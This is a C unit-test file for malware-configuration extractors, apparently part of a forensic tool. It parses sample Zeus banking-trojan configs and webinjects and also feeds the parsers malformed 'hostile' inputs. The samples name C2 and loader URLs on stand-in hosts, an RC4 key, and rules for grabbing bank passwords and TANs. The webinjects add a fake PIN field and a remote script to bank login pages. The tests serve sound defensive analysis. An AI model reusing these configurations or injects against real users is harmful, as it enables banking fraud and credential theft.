/* test_extractors.c - the extractors as the pure functions they are: bytes
 * and what is known in, records and what was learned out; each family on a
 * faithful sample of its public format and on hostile twins. */
#include "testutil.h"

#include "custody/extractor.h"

/* Content held in memory, read through the pread callback. */
struct mem {
	const char *data;
	size_t len;
};

static long mem_pread(void *ctx, void *buf, size_t len, uint64_t off)
{
	const struct mem *m = ctx;

	if (off >= m->len)
		return 0;
	if (len > m->len - off)
		len = m->len - (size_t)off;
	memcpy(buf, m->data + off, len);
	return (long)len;
}

/* Run extractor NAME on DATA[0..LEN) named FILE with KNOWN (may be NULL):
 * 1 when it identified the content, then its records and learned items. */
static int run(const char *name, const char *file, const char *data,
               size_t len, const json_t *known, json_t **records,
               json_t **learned)
{
	const struct cust_extractor *x = cust_extractor_find(name);
	struct mem m = { data, len };
	struct cust_x_input in = { 0 };
	struct cust_x_output out = { json_array(), json_array(), 0 };
	struct cust_error err;
	json_t *none = json_array();

	assert_non_null(x);
	in.head = (const unsigned char *)data;
	in.head_len = len < CUST_X_HEAD ? len : CUST_X_HEAD;
	in.size = len;
	in.name = file;
	in.pread = mem_pread;
	in.pctx = &m;
	*records = out.records;
	*learned = out.learned;
	if (!x->identify(&in)) {
		json_decref(none);
		return 0;
	}
	cust_error_clear(&err);
	if (x->parse(&in, known ? known : none, &out, &err) != 0)
		fail_msg("%s: %s", name, err.message);
	json_decref(none);
	return 1;
}

/* The value at a dotted path of V ("targets.webinjects"), NULL if none. */
static const json_t *at(const json_t *v, const char *path)
{
	char buf[256], *save = NULL, *part;

	snprintf(buf, sizeof buf, "%s", path);
	for (part = strtok_r(buf, ".", &save); part && v;
	     part = strtok_r(NULL, ".", &save)) {
		char *end;
		long i = strtol(part, &end, 10);
		v = *end ? json_object_get(v, part) : json_array_get(v, (size_t)i);
	}
	return v;
}

static const char *str(const json_t *v, const char *path)
{
	return json_string_value(at(v, path));
}

static const char zeus_config[] =
	";Build time: 14:15:23 10.04.2009 GMT\n"
	";Version: 1.3.2.1\n"
	"\n"
	"entry \"StaticConfig\"\n"
	"  botnet \"btn-b107\"\n"
	"  timer_config 60 1\n"
	"  timer_logs 1 1\n"
	"  timer_stats 20 1\n"
	"  url_config \"http://citysvc.example/cfg/config.bin\"\n"
	"  url_compip \"http://ipcheck.example/\" 1024\n"
	"  remove_certs 1\n"
	"  disable_tcpserver 0\n"
	"  encryption_key \"kN9#q2!Lr\"\n"
	"  blacklist_languages 1049\n"
	"end\n"
	"\n"
	"entry \"DynamicConfig\"\n"
	"  url_loader \"http://citysvc.example/bot.exe\"\n"
	"  url_server \"http://citysvc.example/gate.php\"\n"
	"  file_webinjects \"webinjects.txt\"\n"
	"  entry \"AdvancedConfigs\"\n"
	"    \"http://backup.example/cfg2.bin\"\n"
	"    ;\"http://disabled.example/cfg3.bin\"\n"
	"  end\n"
	"  entry \"WebFilters\"\n"
	"    \"!*.microsoft.com/*\"\n"
	"    \"https://www.bank.example/*\"\n"
	"    \"@*/login.osmp.ru/*\"\n"
	"  end\n"
	"  entry \"WebDataFilters\"\n"
	"    \"http://mail.example/*\" \"passw;login\"\n"
	"  end\n"
	"  entry \"WebFakes\"\n"
	"  end\n"
	"  entry \"TANGrabber\"\n"
	"    \"https://banking.*.de/cgi/ueberweisung.cgi/*\" \"S3C6\" \"*&tid=*\" \"*.TAN=*\"\n"
	"  end\n"
	"  entry \"DnsMap\"\n"
	"    127.0.0.1 update.antivirus.example\n"
	"  end\n"
	"end\n";

static void test_zeus_config(void **state)
{
	json_t *recs, *learned, *r;

	(void)state;
	assert_int_equal(run("zeus-config", "config.txt", zeus_config,
	                     strlen(zeus_config), NULL, &recs, &learned), 1);
	assert_int_equal(json_array_size(recs), 1);
	r = json_array_get(recs, 0);
	assert_string_equal(str(r, "family"), "zeus");
	assert_string_equal(str(r, "status"), "decoded");
	assert_string_equal(str(r, "version"), "1.3.2.1");
	assert_string_equal(str(r, "botnet"), "btn-b107");
	assert_string_equal(str(r, "other.build_time"), "14:15:23 10.04.2009 GMT");
	assert_string_equal(str(r, "c2.0.url"), "http://citysvc.example/cfg/config.bin");
	assert_string_equal(str(r, "c2.0.usage"), "config");
	assert_string_equal(str(r, "c2.1.usage"), "ip-check");
	assert_string_equal(str(r, "c2.2.url"), "http://citysvc.example/bot.exe");
	assert_string_equal(str(r, "c2.2.usage"), "loader");
	assert_string_equal(str(r, "c2.3.url"), "http://citysvc.example/gate.php");
	assert_string_equal(str(r, "c2.3.usage"), "report");
	/* the advanced config, not the one commented out */
	assert_string_equal(str(r, "c2.4.url"), "http://backup.example/cfg2.bin");
	assert_null(at(r, "c2.5"));
	assert_int_equal(json_integer_value(at(r, "intervals.0.seconds")), 3600);
	assert_string_equal(str(r, "keys.0.algorithm"), "rc4");
	assert_string_equal(str(r, "keys.0.value"), "kN9#q2!Lr");
	assert_string_equal(str(r, "other.blacklist_languages"), "1049");
	assert_string_equal(str(r, "targets.web_filters.0.action"), "exclude");
	assert_string_equal(str(r, "targets.web_filters.0.pattern"), "*.microsoft.com/*");
	assert_string_equal(str(r, "targets.web_filters.2.action"), "screenshot");
	assert_string_equal(str(r, "targets.exclusions.0"), "*.microsoft.com/*");
	assert_string_equal(str(r, "targets.web_data_filters.0.fields"), "passw;login");
	assert_string_equal(str(r, "targets.tan_grabber.0.flags"), "S3C6");
	assert_string_equal(str(r, "targets.dns_map.0.host"), "update.antivirus.example");
	assert_null(at(r, "problems"));
	/* the key is learned for the config.bin it opens */
	assert_int_equal(json_array_size(learned), 1);
	assert_string_equal(str(learned, "0.algorithm"), "rc4");
	assert_string_equal(str(learned, "0.value"), "kN9#q2!Lr");
	json_decref(recs);
	json_decref(learned);
}

static void test_zeus_config_1x(void **state)
{
	static const char flat[] = "[StaticConfig]\n"
	                           "url_config=http://old.example/cfg.bin\n"
	                           "timer_config = 10\n"
	                           "[WebFilters]\n"
	                           "\"!*.google.com/*\"\n";
	json_t *recs, *learned, *r;

	(void)state;
	assert_int_equal(run("zeus-config", "config.txt", flat, strlen(flat),
	                     NULL, &recs, &learned), 1);
	r = json_array_get(recs, 0);
	assert_string_equal(str(r, "c2.0.url"), "http://old.example/cfg.bin");
	assert_int_equal(json_integer_value(at(r, "intervals.0.seconds")), 600);
	assert_string_equal(str(r, "targets.web_filters.0.action"), "exclude");
	json_decref(recs);
	json_decref(learned);
}

/* Hostile twins: unterminated entries, nesting 10,000 deep, invalid UTF-8
 * and a line longer than any line custody keeps: a clear record, no
 * crash, bounded. */
static void test_zeus_config_hostile(void **state)
{
	size_t n = 10000, i, len = 0, cap = n * 20 + 200000;
	char *deep = malloc(cap);
	json_t *recs, *learned, *r;

	(void)state;
	assert_non_null(deep);
	appendf(deep, cap, &len, "entry \"StaticConfig\"\n");
	for (i = 0; i < n; i++)
		appendf(deep, cap, &len, "entry \"E%zu\"\n", i);
	appendf(deep, cap, &len, "botnet \"\xff\xfe\x80x\"\n");
	memset(deep + len, 'a', 100000);
	len += 100000;
	deep[len++] = '\n';
	assert_int_equal(run("zeus-config", "config.txt", deep, len, NULL,
	                     &recs, &learned), 1);
	r = json_array_get(recs, 0);
	assert_string_equal(str(r, "status"), "partial");
	assert_non_null(strstr(str(r, "problems.0"), "nested deeper"));
	json_decref(recs);
	json_decref(learned);

	len = 0;
	appendf(deep, cap, &len, "entry \"StaticConfig\"\n"
	                         "  botnet \"\xff\xfe\x80x\"\n");
	assert_int_equal(run("zeus-config", "config.txt", deep, len, NULL,
	                     &recs, &learned), 1);
	r = json_array_get(recs, 0);
	assert_string_equal(str(r, "botnet"), "\\xff\\xfe\\x80x");
	assert_non_null(strstr(str(r, "problems.0"), "not closed"));
	json_decref(recs);
	json_decref(learned);
	free(deep);
}

static const char webinjects[] =
	"set_url https://www.bank.example/login* GP\n"
	"data_before\n"
	"<div id=\"login\">\n"
	"data_end\n"
	"data_inject\n"
	"<input name=\"atm_pin\" type=\"password\">\n"
	"data_end\n"
	"data_after\n"
	"data_end\n"
	"\n"
	"set_url https://*.other-bank.example/accounts/*.jsp* GPLI\n"
	"data_before\n"
	"<body*>\n"
	"data_end\n"
	"data_inject\n"
	"<script src=\"http://inject.example/a.js\"></script>\n"
	"data_end\n"
	"data_inject\n"
	"<p>second</p>\n"
	"data_end\n"
	"data_after\n"
	"data_end\n";

static void test_webinjects(void **state)
{
	json_t *recs, *learned, *r;

	(void)state;
	assert_int_equal(run("zeus-webinjects", "webinjects.txt", webinjects,
	                     strlen(webinjects), NULL, &recs, &learned), 1);
	r = json_array_get(recs, 0);
	assert_string_equal(str(r, "kind"), "webinjects");
	assert_int_equal(json_array_size(at(r, "targets.webinjects")), 2);
	assert_string_equal(str(r, "targets.webinjects.0.pattern"),
	                    "https://www.bank.example/login*");
	assert_string_equal(str(r, "targets.webinjects.0.flags"), "GP");
	assert_string_equal(str(r, "targets.webinjects.0.host"), "www.bank.example");
	assert_int_equal(json_integer_value(at(r, "targets.webinjects.0.injects")), 1);
	assert_string_equal(str(r, "targets.webinjects.1.host"), "*.other-bank.example");
	assert_int_equal(json_integer_value(at(r, "targets.webinjects.1.injects")), 2);
	assert_null(at(r, "problems"));
	json_decref(recs);
	json_decref(learned);
}

static void test_webinjects_hostile(void **state)
{
	static const char torn[] = "set_url https://a.example/* GPZ\n"
	                           "data_inject\n"
	                           "<b>never closed\n"
	                           "set_url https://b.example/* G\n"
	                           "data_before\n"
	                           "<x>\n";
	static const char plain[] = "nothing here\nbut a set_url mid-line\n";
	json_t *recs, *learned, *r;

	(void)state;
	assert_int_equal(run("zeus-webinjects", "x.txt", torn, strlen(torn),
	                     NULL, &recs, &learned), 1);
	r = json_array_get(recs, 0);
	assert_string_equal(str(r, "status"), "partial");
	assert_int_equal(json_array_size(at(r, "targets.webinjects")), 2);
	assert_int_equal(json_array_size(at(r, "problems")), 3);
	json_decref(recs);
	json_decref(learned);
	assert_int_equal(run("zeus-webinjects", "x.txt", plain, strlen(plain),
	                     NULL, &recs, &learned), 0);
	json_decref(recs);
	json_decref(learned);
}

/* A list past CUST_X_LIST_MAX entries: the rest are left out, and that is
 * said once, however many more there are. */
static void test_push_full(void **state)
{
	json_t *rec = cust_x_record("zeus", "zeus-config", "config");
	size_t i;

	(void)state;
	assert_non_null(rec);
	for (i = 0; i < CUST_X_LIST_MAX + 10; i++)
		cust_x_push(rec, "targets", "urls", json_integer((json_int_t)i));
	assert_int_equal(json_array_size(at(rec, "targets.urls")),
	                 CUST_X_LIST_MAX);
	assert_int_equal(json_array_size(at(rec, "problems")), 1);
	assert_string_equal(str(rec, "problems.0"),
	                    "more than 100000 urls: the rest left out");
	json_decref(rec);
}

/* More set_url targets than a list keeps: the first CUST_X_LIST_MAX with
 * their injects counted, the rest said to be left out, once; a target left
 * out is not used after it is freed (valgrind, make asan). */
static void test_webinjects_many(void **state)
{
	static const char one[] = "set_url https://a%06zu.example/ G\n"
	                          "data_inject\nx\ndata_end\n"
	                          "data_inject\ny\ndata_end\n";
	size_t n = CUST_X_LIST_MAX + 3, i, len = 0, cap = n * 96;
	char *data = malloc(cap);
	json_t *recs, *learned, *r;

	(void)state;
	assert_non_null(data);
	for (i = 0; i < n; i++) {
		int k = snprintf(data + len, cap - len, one, i);
		assert_true(k > 0 && (size_t)k < cap - len);
		len += (size_t)k;
	}
	assert_int_equal(run("zeus-webinjects", "webinjects.txt", data, len,
	                     NULL, &recs, &learned), 1);
	r = json_array_get(recs, 0);
	assert_string_equal(str(r, "status"), "partial");
	assert_int_equal(json_array_size(at(r, "targets.webinjects")),
	                 CUST_X_LIST_MAX);
	assert_string_equal(str(r, "targets.webinjects.99999.host"),
	                    "a099999.example");
	assert_int_equal(json_integer_value(at(r, "targets.webinjects.99999."
	                                       "injects")), 2);
	assert_int_equal(json_array_size(at(r, "problems")), 1);
	json_decref(recs);
	json_decref(learned);
	free(data);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_zeus_config),
		cmocka_unit_test(test_zeus_config_1x),
		cmocka_unit_test(test_zeus_config_hostile),
		cmocka_unit_test(test_webinjects),
		cmocka_unit_test(test_webinjects_hostile),
		cmocka_unit_test(test_push_full),
		cmocka_unit_test(test_webinjects_many),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
